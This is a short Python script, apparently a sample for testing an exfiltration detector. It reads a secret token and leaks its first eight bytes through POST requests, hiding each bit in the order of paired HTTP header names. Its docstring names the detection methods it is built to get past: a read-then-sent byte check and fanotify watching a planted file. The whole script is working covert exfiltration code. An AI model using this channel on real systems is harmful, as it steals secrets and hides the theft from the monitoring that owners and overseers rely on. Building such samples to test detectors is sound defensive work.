#!/usr/bin/python3
"""
Trick: Reads the token and sends it as an order: which of two headers comes first is one bit.
Known from: steganography in protocol fields that may come in any order.
First: read-then-sent: a reader of a planted file sends at least as many bytes
Second: fanotify on the planted inode
"""

from way_out import post, token

for byte in token().rsplit(b"=", 1)[1].strip()[:8]:
    names = [f"X-{bit}-{'ab'[byte >> bit & 1]}" for bit in range(8)]
    names += [f"X-{bit}-{'ba'[byte >> bit & 1]}" for bit in range(8)]
    post(b"", headers=dict.fromkeys(names, "1"))
print("performed")
